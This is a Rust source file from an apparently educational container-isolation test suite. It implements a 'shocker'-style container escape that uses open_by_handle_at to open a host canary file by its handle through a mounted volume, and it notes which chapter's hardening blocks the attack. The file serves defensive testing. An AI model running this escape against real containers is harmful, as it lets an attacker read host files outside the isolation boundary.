//! A way to a file that needs no path.

use std::fs::File;
use std::os::fd::AsFd;

use process::Step;

use crate::attack::attacker::{A_FILE, number, read};
use crate::attack::places::CANARY;
use crate::attack::sys;
use crate::attack::target::Attack;

pub const ATTACK: Attack = Attack {
    name: "handle",
    title: "open a file by its number",
    tries: "open_by_handle_at takes a file's number in place of a path, and any mount of the \
            same file system: a volume is one. Numbers can be guessed.",
    why: "no path, so no root directory to stay in. The kernel asks for CAP_DAC_READ_SEARCH \
          over the whole file system, which root of a user namespace does not have; chapter 9 \
          drops it and forbids the call.",
    reference: "open_by_handle_at(2), the \"shocker\" exploit of 2014",
    stopped_by: 8,
    run: |target| {
        let (kind, bytes) = sys::handle_of(c"/canary").step(|| format!("number {CANARY}"))?;
        let bytes: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
        let volume: &[&str] = if target.chapter.number < 3 { &[] } else { &["-v", "/vol:/vol"] };
        let door = if volume.is_empty() { "/" } else { "/vol" };
        let words = [kind.to_string(), door.to_owned(), bytes];
        if let Some(why_not) = target.host_may_not(&words) {
            return Ok(why_not);
        }
        Ok(target.attack(volume, &words)?.has_read(target.secret, A_FILE))
    },
    inside: |words| {
        let kind = number(words)?;
        let (door, digits) = (&words[1], &words[2]);
        let byte = |at| u8::from_str_radix(digits.get(at..at + 2).unwrap_or_default(), 16).ok();
        let bytes: Vec<u8> = (0..digits.len()).step_by(2).filter_map(byte).collect();
        let door = File::open(door).step(|| format!("open {door}"))?;
        let file =
            sys::open_by_handle(door.as_fd(), kind, &bytes).step(|| "open a file by its number")?;
        read(File::from(file))
    },
};
